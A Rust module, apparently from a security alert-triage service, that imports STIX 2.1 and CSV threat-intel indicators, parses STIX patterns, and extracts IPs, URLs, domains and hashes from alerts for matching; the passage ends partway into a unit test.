//! Threat intel (contract section 12): STIX 2.1 bundles of `indicator` objects and CSV
//! lists, reduced to observables the service can match (IP addresses and ranges, domains,
//! URLs, file hashes), and the candidate values of an alert they are matched against.

use std::collections::BTreeSet;
use std::net::IpAddr;
use std::sync::LazyLock;

use chrono::{DateTime, Utc};
use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};

use super::import::{ImportError, LineError, MAX_LINE_ERRORS, parse_time};
use crate::alert::Alert;

/// What an observable is matched as. Hashes are matched by value; the algorithm follows
/// from the length (32 MD5, 40 SHA-1, 64 SHA-256, 128 SHA-512).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ObsKind {
    Ip,
    /// An address range, stored as `<network>/<prefix>`.
    Cidr,
    Domain,
    Url,
    Hash,
}

impl ObsKind {
    pub fn as_str(self) -> &'static str {
        match self {
            ObsKind::Ip => "ip",
            ObsKind::Cidr => "cidr",
            ObsKind::Domain => "domain",
            ObsKind::Url => "url",
            ObsKind::Hash => "hash",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Observable {
    pub kind: ObsKind,
    pub value: String,
}

/// One indicator as stored and cited (`intel:<id>`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Indicator {
    pub id: String,
    pub name: String,
    /// The STIX pattern, or `<type> = <value>` for a CSV row.
    pub pattern: String,
    pub source: String,
    /// 0-100 (STIX confidence scale).
    pub confidence: u8,
    pub description: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub valid_from: Option<DateTime<Utc>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub valid_until: Option<DateTime<Utc>>,
    pub observables: Vec<Observable>,
}

impl Indicator {
    /// Whether the indicator was in force at `t`.
    pub fn valid_at(&self, t: DateTime<Utc>) -> bool {
        self.valid_from.is_none_or(|f| f <= t) && self.valid_until.is_none_or(|u| t < u)
    }

    /// The text of an `intel:<id>` document.
    pub fn document_text(&self) -> String {
        let mut t = format!(
            "Threat intel indicator {}: {}\nPattern: {}\nSource: {}\nConfidence: {}/100\n",
            self.id, self.name, self.pattern, self.source, self.confidence
        );
        let day = |d: &DateTime<Utc>| d.format("%Y-%m-%d").to_string();
        match (&self.valid_from, &self.valid_until) {
            (Some(f), Some(u)) => t.push_str(&format!("Valid: {} to {}\n", day(f), day(u))),
            (Some(f), None) => t.push_str(&format!("Valid from: {}\n", day(f))),
            (None, Some(u)) => t.push_str(&format!("Valid until: {}\n", day(u))),
            (None, None) => {}
        }
        if !self.description.trim().is_empty() {
            t.push_str(self.description.trim());
            t.push('\n');
        }
        t
    }
}

/// A parsed intel file: the indicators to store and what was skipped.
#[derive(Debug, Clone, Default)]
pub struct Parsed {
    pub indicators: Vec<Indicator>,
    pub skipped: Vec<LineError>,
}

/// Parses an intel file: a STIX 2.1 bundle when it is a JSON object, CSV otherwise.
pub fn parse(text: &str) -> Result<Parsed, ImportError> {
    if text.trim_start().starts_with('{') { parse_stix(text) } else { parse_csv(text) }
}

// ---------------------------------------------------------------------------------------
// CSV

const CSV_HEADER: [&str; 5] = ["type", "value", "source", "confidence", "description"];

/// CSV `type,value,source,confidence,description` with a header line. Fields may be
/// double-quoted (with `""` for a quote); a field does not span lines.
pub fn parse_csv(text: &str) -> Result<Parsed, ImportError> {
    let mut lines = text.lines().enumerate().filter(|(_, l)| !l.trim().is_empty());
    let Some((hi, header)) = lines.next() else {
        return Err(ImportError::one(1, "empty file: expected the header `type,value,source,confidence,description`"));
    };
    let cols = split_csv(header).map_err(|e| ImportError::one(hi + 1, e))?;
    let cols: Vec<String> = cols.iter().map(|c| c.trim().trim_start_matches('\u{feff}').to_ascii_lowercase()).collect();
    if cols != CSV_HEADER {
        return Err(ImportError::one(hi + 1, format!("the header must be `{}`, got `{}`", CSV_HEADER.join(","), cols.join(","))));
    }
    let mut out = Parsed::default();
    let mut errors = Vec::new();
    for (i, line) in lines {
        match csv_row(line) {
            Ok(ind) => out.indicators.push(ind),
            Err(reason) => {
                errors.push(LineError { line: i + 1, reason });
                if errors.len() >= MAX_LINE_ERRORS {
                    break;
                }
            }
        }
    }
    if errors.is_empty() { Ok(out) } else { Err(ImportError { lines: errors }) }
}

fn csv_row(line: &str) -> Result<Indicator, String> {
    let f = split_csv(line)?;
    if f.len() != 5 {
        return Err(format!("{} columns; expected 5 (type,value,source,confidence,description)", f.len()));
    }
    let (ty, value, source, confidence, description) = (f[0].trim(), f[1].trim(), f[2].trim(), f[3].trim(), f[4].trim());
    let obs = match ty {
        "ipv4" | "ipv6" => ip_observable(value, ty == "ipv4")?,
        "domain" => Observable { kind: ObsKind::Domain, value: domain(value)? },
        "url" => Observable { kind: ObsKind::Url, value: url(value)? },
        "md5" | "sha1" | "sha256" => Observable { kind: ObsKind::Hash, value: hash(value, Some(ty))? },
        other => return Err(format!("`type`: `{other}` is not ipv4, ipv6, domain, url, md5, sha1 or sha256")),
    };
    if source.is_empty() {
        return Err("`source` is empty".into());
    }
    let confidence = match confidence.to_ascii_lowercase().as_str() {
        // The STIX 2.1 mapping of Low/Med/High onto 0-100 (Appendix A).
        "low" => 15,
        "medium" => 50,
        "high" => 85,
        n => n.parse::<u8>().ok().filter(|c| *c <= 100).ok_or_else(|| format!("`confidence`: `{confidence}` is not low, medium, high or 0-100"))?,
    };
    // A CSV row has no id of its own: one that is stable across re-imports of the same row.
    let digest = hex::encode(Sha256::digest(format!("{ty}\0{}\0{source}", obs.value)));
    Ok(Indicator {
        id: format!("csv-{}", &digest[..16]),
        name: format!("{ty} {value}"),
        pattern: format!("{ty} = {value}"),
        source: source.to_string(),
        confidence,
        description: description.to_string(),
        valid_from: None,
        valid_until: None,
        observables: vec![obs],
    })
}

/// Splits one CSV line (RFC 4180 quoting, no line breaks inside fields).
fn split_csv(line: &str) -> Result<Vec<String>, String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut chars = line.chars().peekable();
    let mut quoted = false;
    let mut was_quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cur.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cur.push(c),
            (false, '"') if cur.trim().is_empty() && !was_quoted => {
                cur.clear();
                quoted = true;
                was_quoted = true;
            }
            (false, ',') => {
                out.push(std::mem::take(&mut cur));
                was_quoted = false;
            }
            (false, c) if was_quoted && !c.is_whitespace() => return Err("text after a closing quote".into()),
            (false, c) => cur.push(c),
        }
    }
    if quoted {
        return Err("unterminated quoted field".into());
    }
    out.push(cur);
    Ok(out)
}

// ---------------------------------------------------------------------------------------
// Values

fn ip_observable(value: &str, v4: bool) -> Result<Observable, String> {
    let v = value.trim();
    if let Some((addr, len)) = v.split_once('/') {
        let ip: IpAddr = addr.parse().map_err(|_| format!("`{v}` is not an IP address range"))?;
        let len: u8 = len.parse().map_err(|_| format!("`{v}`: bad prefix length"))?;
        let max = if ip.is_ipv4() { 32 } else { 128 };
        if ip.is_ipv4() != v4 || len > max {
            return Err(format!("`{v}` is not an {} range", if v4 { "IPv4" } else { "IPv6" }));
        }
        if len == max {
            return Ok(Observable { kind: ObsKind::Ip, value: ip.to_string() });
        }
        return Ok(Observable { kind: ObsKind::Cidr, value: format!("{}/{len}", network(ip, len)) });
    }
    let ip: IpAddr = v.parse().map_err(|_| format!("`{v}` is not an IP address"))?;
    if ip.is_ipv4() != v4 {
        return Err(format!("`{v}` is not an {} address", if v4 { "IPv4" } else { "IPv6" }));
    }
    Ok(Observable { kind: ObsKind::Ip, value: ip.to_string() })
}

/// The network address of `ip` under a prefix of `len` bits.
pub fn network(ip: IpAddr, len: u8) -> IpAddr {
    match ip {
        IpAddr::V4(v4) => {
            let bits = u32::from(v4);
            let mask = if len == 0 { 0 } else { u32::MAX << (32 - u32::from(len)) };
            IpAddr::V4((bits & mask).into())
        }
        IpAddr::V6(v6) => {
            let bits = u128::from(v6);
            let mask = if len == 0 { 0 } else { u128::MAX << (128 - u32::from(len)) };
            IpAddr::V6((bits & mask).into())
        }
    }
}

static DOMAIN: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"^(?:[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,62}$").ok());

fn domain(value: &str) -> Result<String, String> {
    let d = value.trim().trim_end_matches('.').to_ascii_lowercase();
    if d.len() <= 253 && DOMAIN.as_ref().is_some_and(|re| re.is_match(&d)) { Ok(d) } else { Err(format!("`{value}` is not a domain name")) }
}

fn url(value: &str) -> Result<String, String> {
    let u = value.trim();
    match u.split_once("://") {
        Some((scheme, rest)) if !scheme.is_empty() && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c)) && !rest.is_empty() => {
            if u.chars().any(char::is_whitespace) {
                return Err(format!("`{value}` is not a URL"));
            }
            Ok(normalise_url(u))
        }
        _ => Err(format!("`{value}` is not a URL (expected <scheme>://…)")),
    }
}

/// Scheme and host lower-cased (they are case-blind); the rest kept as written.
fn normalise_url(u: &str) -> String {
    let Some((scheme, rest)) = u.split_once("://") else { return u.to_string() };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    format!("{}://{}{}", scheme.to_ascii_lowercase(), rest[..end].to_ascii_lowercase(), &rest[end..])
}

fn url_host(u: &str) -> Option<String> {
    let rest = u.split_once("://")?.1;
    let authority = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
    let host = authority.rsplit('@').next()?;
    let host = if host.starts_with('[') { host.trim_start_matches('[').split(']').next()? } else { host.split(':').next()? };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

fn hash(value: &str, algo: Option<&str>) -> Result<String, String> {
    let h = value.trim().to_ascii_lowercase();
    let want = match algo {
        Some("md5") => Some(32),
        Some("sha1") => Some(40),
        Some("sha256") => Some(64),
        Some("sha512") => Some(128),
        _ => None,
    };
    let ok = h.chars().all(|c| c.is_ascii_hexdigit())
        && match want {
            Some(n) => h.len() == n,
            None => [32, 40, 64, 128].contains(&h.len()),
        };
    if ok { Ok(h) } else { Err(format!("`{value}` is not a valid {} hash", algo.unwrap_or("file"))) }
}

// ---------------------------------------------------------------------------------------
// STIX 2.1

/// A STIX 2.1 bundle: `indicator` objects are imported; `identity` objects name sources;
/// every other object type is ignored. An indicator with a `pattern_type` other than
/// `stix`, revoked, or with no comparison on a matchable observable is skipped and reported.
pub fn parse_stix(text: &str) -> Result<Parsed, ImportError> {
    let bundle: Value = serde_json::from_str(text).map_err(|e| ImportError::one(e.line().max(1), format!("not JSON: {e}")))?;
    if bundle.get("type").and_then(Value::as_str) != Some("bundle") {
        return Err(ImportError::one(1, "not a STIX bundle (`type` must be `bundle`)"));
    }
    let Some(objects) = bundle.get("objects").and_then(Value::as_array) else {
        return Err(ImportError::one(1, "the bundle has no `objects` array"));
    };
    let identities: std::collections::HashMap<&str, &str> = objects
        .iter()
        .filter(|o| o.get("type").and_then(Value::as_str) == Some("identity"))
        .filter_map(|o| Some((o.get("id")?.as_str()?, o.get("name")?.as_str()?)))
        .collect();
    let lines = LineFinder::new(text);
    let mut out = Parsed::default();
    let mut errors = Vec::new();
    let mut cursor = 0;
    for (i, o) in objects.iter().enumerate() {
        let id = o.get("id").and_then(Value::as_str).unwrap_or("");
        let (line, next) = lines.line_of(id, cursor);
        cursor = next;
        if o.get("type").and_then(Value::as_str) != Some("indicator") {
            continue;
        }
        match stix_indicator(o, &identities) {
            Ok(Some(ind)) => out.indicators.push(ind),
            Ok(None) => {}
            Err(Skip::Skipped(reason)) => out.skipped.push(LineError { line, reason: format!("{id}: {reason}") }),
            Err(Skip::Invalid(reason)) => {
                let at = if id.is_empty() { format!("objects[{i}]") } else { id.to_string() };
                errors.push(LineError { line, reason: format!("{at}: {reason}") });
                if errors.len() >= MAX_LINE_ERRORS {
                    break;
                }
            }
        }
    }
    if errors.is_empty() { Ok(out) } else { Err(ImportError { lines: errors }) }
}

enum Skip {
    Skipped(String),
    Invalid(String),
}

fn stix_indicator(o: &Value, identities: &std::collections::HashMap<&str, &str>) -> Result<Option<Indicator>, Skip> {
    let s = |k: &str| o.get(k).and_then(Value::as_str);
    let id = s("id").ok_or_else(|| Skip::Invalid("no `id`".into()))?;
    let valid_id = id.strip_prefix("indicator--").is_some_and(|u| uuid::Uuid::parse_str(u).is_ok());
    if !valid_id {
        return Err(Skip::Invalid(format!("`id` `{id}` is not `indicator--<uuid>`")));
    }
    let pattern = s("pattern").ok_or_else(|| Skip::Invalid("no `pattern`".into()))?;
    let time = |k: &str| s(k).map(|v| parse_time(k, v)).transpose().map_err(Skip::Invalid);
    let valid_from = time("valid_from")?;
    let valid_until = time("valid_until")?;
    if let (Some(f), Some(u)) = (valid_from, valid_until)
        && u <= f
    {
        return Err(Skip::Invalid("`valid_until` is not after `valid_from`".into()));
    }
    let confidence = match o.get("confidence") {
        None | Some(Value::Null) => 50,
        Some(v) => v.as_u64().filter(|c| *c <= 100).map(|c| c as u8).ok_or_else(|| Skip::Invalid(format!("`confidence` {v} is not 0-100")))?,
    };
    let pattern_type = s("pattern_type").unwrap_or("stix");
    if pattern_type != "stix" {
        return Err(Skip::Skipped(format!("pattern_type `{pattern_type}` is not matched (only `stix`)")));
    }
    let comparisons = parse_pattern(pattern).map_err(|e| Skip::Invalid(format!("invalid STIX pattern `{pattern}`: {e}")))?;
    let mut observables = BTreeSet::new();
    for (path, value) in comparisons {
        if let Some(obs) = observable_of(&path, &value).map_err(|e| Skip::Invalid(format!("pattern `{pattern}`: {e}")))? {
            observables.insert(obs);
        }
    }
    if o.get("revoked").and_then(Value::as_bool) == Some(true) {
        return Err(Skip::Skipped("revoked".into()));
    }
    if observables.is_empty() {
        return Err(Skip::Skipped("no `=` comparison on ipv4-addr, ipv6-addr, domain-name, url or file:hashes".into()));
    }
    let source = s("created_by_ref").and_then(|r| identities.get(r).copied()).unwrap_or("STIX bundle");
    Ok(Some(Indicator {
        id: id.to_string(),
        name: s("name").unwrap_or(pattern).to_string(),
        pattern: pattern.to_string(),
        source: source.to_string(),
        confidence,
        description: s("description").unwrap_or("").to_string(),
        valid_from,
        valid_until,
        observables: observables.into_iter().collect(),
    }))
}

/// The observable an equality comparison names, if it is one the service matches.
fn observable_of(path: &str, value: &str) -> Result<Option<Observable>, String> {
    let p = path.replace('"', "'");
    Ok(Some(match p.as_str() {
        "ipv4-addr:value" => ip_observable(value, true)?,
        "ipv6-addr:value" => ip_observable(value, false)?,
        "domain-name:value" => Observable { kind: ObsKind::Domain, value: domain(value)? },
        "url:value" => Observable { kind: ObsKind::Url, value: url(value)? },
        _ => match p.strip_prefix("file:hashes.") {
            Some(algo) => {
                let algo = algo.trim_matches('\'').to_ascii_lowercase().replace('-', "");
                match algo.as_str() {
                    "md5" | "sha1" | "sha256" | "sha512" => Observable { kind: ObsKind::Hash, value: hash(value, Some(&algo))? },
                    _ => return Ok(None),
                }
            }
            None => return Ok(None),
        },
    }))
}

/// Finds the line each object starts on by its id, scanning forward through the text.
struct LineFinder<'a> {
    text: &'a str,
}

impl<'a> LineFinder<'a> {
    fn new(text: &'a str) -> Self {
        LineFinder { text }
    }

    /// The 1-based line of the first `"<id>"` at or after byte `from`, and where to go on.
    fn line_of(&self, id: &str, from: usize) -> (usize, usize) {
        let needle = format!("\"{id}\"");
        let at = if id.is_empty() { None } else { self.text.get(from..).and_then(|t| t.find(&needle)).map(|i| i + from) };
        match at {
            Some(i) => (self.text[..i].matches('\n').count() + 1, i + needle.len()),
            None => (self.text[..from.min(self.text.len())].matches('\n').count() + 1, from),
        }
    }
}

/// The equality comparisons of a STIX pattern, after checking its syntax: observation
/// expressions in brackets joined by AND, OR and FOLLOWEDBY, with qualifiers; comparison
/// expressions joined by AND and OR, negated with NOT; the operators of STIX 2.1.
/// An indicator matches when any of its equality comparisons on a matchable observable
/// does (a hash or address equal to a known-bad one is worth saying even when the
/// pattern adds conditions).
pub fn parse_pattern(pattern: &str) -> Result<Vec<(String, String)>, String> {
    let tokens = lex(pattern)?;
    let mut p = PatternParser { tokens: &tokens, pos: 0, equalities: Vec::new() };
    p.pattern()?;
    if p.pos != tokens.len() {
        return Err(format!("unexpected `{}`", tokens[p.pos]));
    }
    Ok(p.equalities)
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Open,
    Close,
    LParen,
    RParen,
    Comma,
    Word(String),
    Path(String),
    Str(String),
    Lit(String),
    Op(String),
}

impl std::fmt::Display for Tok {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Tok::Open => f.write_str("["),
            Tok::Close => f.write_str("]"),
            Tok::LParen => f.write_str("("),
            Tok::RParen => f.write_str(")"),
            Tok::Comma => f.write_str(","),
            Tok::Word(s) | Tok::Path(s) | Tok::Lit(s) | Tok::Op(s) => f.write_str(s),
            Tok::Str(s) => write!(f, "'{s}'"),
        }
    }
}

fn quoted(chars: &[char], i: &mut usize) -> Result<String, String> {
    // chars[*i] is the opening quote.
    *i += 1;
    let mut s = String::new();
    while *i < chars.len() {
        match chars[*i] {
            '\\' if *i + 1 < chars.len() => {
                s.push(chars[*i + 1]);
                *i += 2;
            }
            '\'' => {
                *i += 1;
                return Ok(s);
            }
            c => {
                s.push(c);
                *i += 1;
            }
        }
    }
    Err("unterminated string".into())
}

fn lex(pattern: &str) -> Result<Vec<Tok>, String> {
    let chars: Vec<char> = pattern.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            c if c.is_whitespace() => i += 1,
            '[' => {
                out.push(Tok::Open);
                i += 1
            }
            ']' => {
                out.push(Tok::Close);
                i += 1
            }
            '(' => {
                out.push(Tok::LParen);
                i += 1
            }
            ')' => {
                out.push(Tok::RParen);
                i += 1
            }
            ',' => {
                out.push(Tok::Comma);
                i += 1
            }
            '\'' => out.push(Tok::Str(quoted(&chars, &mut i)?)),
            '=' => {
                out.push(Tok::Op("=".into()));
                i += 1
            }
            '!' | '<' | '>' => {
                let two = chars.get(i + 1) == Some(&'=');
                let op: String = if two { [c, '='].iter().collect() } else { c.to_string() };
                if op == "!" {
                    return Err("`!` must be `!=`".into());
                }
                out.push(Tok::Op(op));
                i += if two { 2 } else { 1 };
            }
            c if c.is_ascii_digit() || c == '-' || c == '+' => {
                let start = i;
                i += 1;
                while i < chars.len() && (chars[i].is_ascii_digit() || chars[i] == '.') {
                    i += 1;
                }
                out.push(Tok::Lit(chars[start..i].iter().collect()));
            }
            c if c.is_ascii_alphabetic() || c == '_' => {
                // t'…', h'…', b'…' literals.
                if matches!(c, 't' | 'h' | 'b') && chars.get(i + 1) == Some(&'\'') {
                    i += 1;
                    let s = quoted(&chars, &mut i)?;
                    out.push(Tok::Lit(format!("{c}'{s}'")));
                    continue;
                }
                let start = i;
                while i < chars.len() && (chars[i].is_ascii_alphanumeric() || chars[i] == '_' || chars[i] == '-') {
                    i += 1;
                }
                if chars.get(i) == Some(&':') {
                    // An object path: type ':' property, with dotted, quoted and indexed steps.
                    i += 1;
                    while i < chars.len() {
                        match chars[i] {
                            // A quoted step (`hashes.'SHA-256'`) stays in the path as written.
                            '\'' => {
                                quoted(&chars, &mut i)?;
                            }
                            '[' => {
                                // `[*]` or `[0]` index steps.
                                let close = chars[i..].iter().position(|c| *c == ']').ok_or("unterminated index in an object path")?;
                                i += close + 1;
                            }
                            c if c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '.' => i += 1,
                            _ => break,
                        }
                    }
                    out.push(Tok::Path(chars[start..i].iter().collect()));
                } else {
                    out.push(Tok::Word(chars[start..i].iter().collect::<String>().to_ascii_uppercase()));
                }
            }
            other => return Err(format!("unexpected character `{other}`")),
        }
    }
    Ok(out)
}

struct PatternParser<'a> {
    tokens: &'a [Tok],
    pos: usize,
    equalities: Vec<(String, String)>,
}

impl PatternParser<'_> {
    fn peek(&self) -> Option<&Tok> {
        self.tokens.get(self.pos)
    }

    fn next(&mut self) -> Option<Tok> {
        let t = self.tokens.get(self.pos).cloned();
        self.pos += 1;
        t
    }

    fn word(&self, w: &str) -> bool {
        matches!(self.peek(), Some(Tok::Word(x)) if x == w)
    }

    fn expect(&mut self, t: Tok) -> Result<(), String> {
        match self.next() {
            Some(x) if x == t => Ok(()),
            Some(x) => Err(format!("expected `{t}`, found `{x}`")),
            None => Err(format!("expected `{t}` at the end")),
        }
    }

    fn pattern(&mut self) -> Result<(), String> {
        self.observation()?;
        while self.word("AND") || self.word("OR") || self.word("FOLLOWEDBY") {
            self.pos += 1;
            self.observation()?;
        }
        Ok(())
    }

    fn observation(&mut self) -> Result<(), String> {
        match self.next() {
            Some(Tok::Open) => {
                self.comparison_or()?;
                self.expect(Tok::Close)?;
            }
            Some(Tok::LParen) => {
                self.pattern()?;
                self.expect(Tok::RParen)?;
            }
            Some(t) => return Err(format!("expected `[` or `(`, found `{t}`")),
            None => return Err("empty pattern".into()),
        }
        self.qualifiers()
    }

    fn qualifiers(&mut self) -> Result<(), String> {
        loop {
            if self.word("WITHIN") {
                self.pos += 1;
                self.literal()?;
                self.keyword("SECONDS")?;
            } else if self.word("REPEATS") {
                self.pos += 1;
                self.literal()?;
                self.keyword("TIMES")?;
            } else if self.word("START") {
                self.pos += 1;
                self.literal()?;
                self.keyword("STOP")?;
                self.literal()?;
            } else {
                return Ok(());
            }
        }
    }

    fn keyword(&mut self, w: &str) -> Result<(), String> {
        if self.word(w) {
            self.pos += 1;
            Ok(())
        } else {
            Err(format!("expected `{w}`"))
        }
    }

    fn literal(&mut self) -> Result<(), String> {
        match self.next() {
            Some(Tok::Lit(_) | Tok::Str(_)) => Ok(()),
            Some(Tok::Word(w)) if w == "TRUE" || w == "FALSE" => Ok(()),
            Some(t) => Err(format!("expected a value, found `{t}`")),
            None => Err("expected a value at the end".into()),
        }
    }

    fn comparison_or(&mut self) -> Result<(), String> {
        self.comparison_and()?;
        while self.word("OR") {
            self.pos += 1;
            self.comparison_and()?;
        }
        Ok(())
    }

    fn comparison_and(&mut self) -> Result<(), String> {
        self.comparison()?;
        while self.word("AND") {
            self.pos += 1;
            self.comparison()?;
        }
        Ok(())
    }

    fn comparison(&mut self) -> Result<(), String> {
        if self.peek() == Some(&Tok::LParen) {
            self.pos += 1;
            self.comparison_or()?;
            return self.expect(Tok::RParen);
        }
        let path = match self.next() {
            Some(Tok::Path(p)) => p,
            Some(t) => return Err(format!("expected an object path (`type:property`), found `{t}`")),
            None => return Err("expected a comparison at the end".into()),
        };
        let negated = self.word("NOT");
        if negated {
            self.pos += 1;
        }
        let op = match self.next() {
            Some(Tok::Op(o)) => o,
            Some(Tok::Word(w)) if ["LIKE", "MATCHES", "IN", "ISSUBSET", "ISSUPERSET"].contains(&w.as_str()) => w,
            Some(t) => return Err(format!("`{path}`: expected a comparison operator, found `{t}`")),
            None => return Err(format!("`{path}`: expected a comparison operator")),
        };
        if op == "IN" {
            self.expect(Tok::LParen)?;
            self.literal()?;
            while self.peek() == Some(&Tok::Comma) {
                self.pos += 1;
                self.literal()?;
            }
            return self.expect(Tok::RParen);
        }
        match self.next() {
            Some(Tok::Str(v)) => {
                if op == "=" && !negated {
                    self.equalities.push((path, v));
                }
                Ok(())
            }
            Some(Tok::Lit(_)) => Ok(()),
            Some(Tok::Word(w)) if w == "TRUE" || w == "FALSE" => Ok(()),
            Some(t) => Err(format!("`{path} {op}`: expected a value, found `{t}`")),
            None => Err(format!("`{path} {op}`: expected a value")),
        }
    }
}

// ---------------------------------------------------------------------------------------
// Candidates in alerts

/// A value of an alert that may match an indicator, with where it was found.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Candidate {
    pub observable: Observable,
    /// A JSON path in the alert (`entities.ips[0]`, `fields.CommandLine`).
    pub path: String,
}

/// The most candidate values taken from one alert: enough for any real alert, and a bound
/// on the lookups a hostile one can cause.
pub const MAX_CANDIDATES: usize = 64;

static IPV4: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").ok());
static IPV6: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)\b[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}\b").ok());
static URL: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r#"(?i)\b(?:https?|ftp|wss?)://[^\s"'<>`|;]+"#).ok());
static HOSTNAME: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{1,62}\b").ok());
static HASH: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)\b(?:[0-9a-f]{128}|[0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})\b").ok());

/// File extensions that look like top-level domains in command lines (`powershell.exe`).
const NOT_TLDS: [&str; 16] = ["exe", "dll", "ps1", "bat", "cmd", "vbs", "js", "txt", "log", "tmp", "dat", "bin", "sys", "msi", "lnk", "json"];

/// Every value of an alert worth looking up: its IP, URL and file entities and the IPs,
/// URLs, domains and hashes inside its field values (command lines included).
pub fn candidates(alert: &Alert) -> Vec<Candidate> {
    let mut out: BTreeSet<Candidate> = BTreeSet::new();
    let push = |kind: ObsKind, value: String, path: &str, out: &mut BTreeSet<Candidate>| {
        if out.len() < MAX_CANDIDATES {
            out.insert(Candidate { observable: Observable { kind, value }, path: path.to_string() });
        }
    };
    for (i, ip) in alert.entities.ips.iter().enumerate() {
        if let Ok(a) = ip.trim().parse::<IpAddr>() {
            push(ObsKind::Ip, a.to_string(), &format!("entities.ips[{i}]"), &mut out);
        }
    }
    for (i, u) in alert.entities.urls.iter().enumerate() {
        let path = format!("entities.urls[{i}]");
        if let Ok(n) = url(u) {
            if let Some(h) = url_host(&n) {
                host_candidates(&h, &path, &mut |k, v, p| push(k, v, p, &mut out));
            }
            push(ObsKind::Url, n, &path, &mut out);
        }
    }
    for (i, f) in alert.entities.files.iter().enumerate() {
        if let Ok(h) = hash(f, None) {
            push(ObsKind::Hash, h, &format!("entities.files[{i}]"), &mut out);
        }
    }
    for (kind, v) in &alert.entities.other {
        if kind.starts_with("domain")
            && let Ok(d) = domain(v)
        {
            push(ObsKind::Domain, d, &format!("entities.{kind}"), &mut out);
        }
    }
    let prefix = if alert.format == crate::alert::AlertFormat::Native { "fields." } else { "" };
    crate::jsonpath::for_each_scalar(&alert.fields, "", &mut |p, text| {
        let path = format!("{prefix}{p}");
        scan_text(text, &path, &mut |k, v, p| push(k, v, p, &mut out));
    });
    out.into_iter().collect()
}

fn host_candidates(host: &str, path: &str, push: &mut dyn FnMut(ObsKind, String, &str)) {
    match host.parse::<IpAddr>() {
        Ok(a) => push(ObsKind::Ip, a.to_string(), path),
        Err(_) => {
            if let Ok(d) = domain(host) {
                push(ObsKind::Domain, d, path);
            }
        }
    }
}

fn scan_text(text: &str, path: &str, push: &mut dyn FnMut(ObsKind, String, &str)) {
    let find = |re: &Option<Regex>| -> Vec<String> { re.as_ref().map(|r| r.find_iter(text).map(|m| m.as_str().to_string()).collect()).unwrap_or_default() };
    for u in find(&URL) {
        let u = u.trim_end_matches(['.', ',', ')', ']', '}']);
        if let Ok(n) = url(u) {
            if let Some(h) = url_host(&n) {
                host_candidates(&h, path, push);
            }
            push(ObsKind::Url, n, path);
        }
    }
    for ip in find(&IPV4) {
        if let Ok(a) = ip.parse::<std::net::Ipv4Addr>() {
            push(ObsKind::Ip, a.to_string(), path);
        }
    }
    if text.contains("::") || text.matches(':').count() >= 3 {
        for ip in find(&IPV6) {
            if let Ok(a) = ip.parse::<std::net::Ipv6Addr>() {
                push(ObsKind::Ip, a.to_string(), path);
            }
        }
    }
    for h in find(&HASH) {
        push(ObsKind::Hash, h.to_ascii_lowercase(), path);
    }
    for d in find(&HOSTNAME) {
        let d = d.to_ascii_lowercase();
        let tld = d.rsplit('.').next().unwrap_or("");
        if NOT_TLDS.contains(&tld) || d.parse::<std::net::Ipv4Addr>().is_ok() {
            continue;
        }
        push(ObsKind::Domain, d, path);
    }
}

/// A domain and its parents down to the registrable level (`a.b.evil.com` → itself,
/// `b.evil.com`, `evil.com`): an indicator on a domain covers its subdomains.
pub fn domain_and_parents(d: &str) -> Vec<String> {
    let labels: Vec<&str> = d.split('.').collect();
    (0..labels.len().saturating_sub(1)).map(|i| labels[i..].join(".")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn stix_patterns_parse_and_yield_equalities() {
        let eq = parse_pattern("[ipv4-addr:value = '203.0.113.7']").unwrap();
        assert_eq!(eq, vec![("ipv4-addr:value".to_string(), "203.0.113.7".to_string())]);
        let eq =
            parse_pattern("[file:hashes.'SHA-256' = 'AABB' OR file:hashes.MD5 = 'cc'] AND [domain-name:value = 'evil.example'] WITHIN 300 SECONDS").unwrap();
        assert_eq!(eq.len(), 3);
        assert_eq!(eq[0].0, "file:hashes.'SHA-256'");
        assert!(parse_pattern("[network-traffic:dst_port IN (80, 443)]").unwrap().is_empty());
        assert!(parse_pattern("[process:name NOT = 'x']").unwrap().is_empty());
        for bad in ["ipv4-addr:value = '1.2.3.4'", "[ipv4-addr:value = '1.2.3.4'", "[ipv4-addr:value '1.2.3.4']", "[ipv4-addr:value = '1.2.3.4]", "[]"] {
            assert!(parse_pattern(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn stix_bundle_import_reports_lines() {
        let ok = r#"{"type": "bundle", "id": "bundle--1", "objects": [
